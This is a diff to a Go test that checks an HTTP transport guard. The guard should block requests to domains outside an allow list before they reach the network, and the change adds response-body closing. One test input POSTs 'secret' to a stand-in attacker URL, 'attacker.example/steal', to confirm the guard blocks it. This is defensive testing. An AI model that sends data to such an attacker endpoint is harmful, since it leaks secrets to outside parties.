@@ -66,7 +66,10 @@ func TestTransportRefusesBeforeTheNetwork(t *testing.T) {
 	hc := &http.Client{Transport: guardTransport{next: net, allow: allow, flag: FlagAllowedEnvironmentDomains, what: "environment", maxBody: 10}}
 	for _, u := range []string{"https://attacker.example/steal", "http://contoso.crm.dynamics.com:8080/", "https://dynamics.com/"} {
 		req, _ := http.NewRequest(http.MethodPost, u, strings.NewReader("secret"))
-		_, err := hc.Do(req)
+		resp, err := hc.Do(req)
+		if resp != nil {
+			_ = resp.Body.Close()
+		}
 		if ReasonOf(err) != ReasonDestinationNotAllowed {
 			t.Errorf("%s: %v, want DestinationNotAllowed", u, err)
 		}
@@ -75,7 +78,11 @@ func TestTransportRefusesBeforeTheNetwork(t *testing.T) {
 		t.Errorf("the network was reached %d times", n)
 	}
 	req, _ := http.NewRequest(http.MethodGet, "https://contoso.crm.dynamics.com/", nil)
-	if _, err := hc.Do(req); err == nil || net.calls.Load() != 1 {
+	resp, err := hc.Do(req)
+	if resp != nil {
+		_ = resp.Body.Close()
+	}
+	if err == nil || net.calls.Load() != 1 {
 		t.Errorf("an allowed request did not reach the transport: %v", err)
 	}
 }
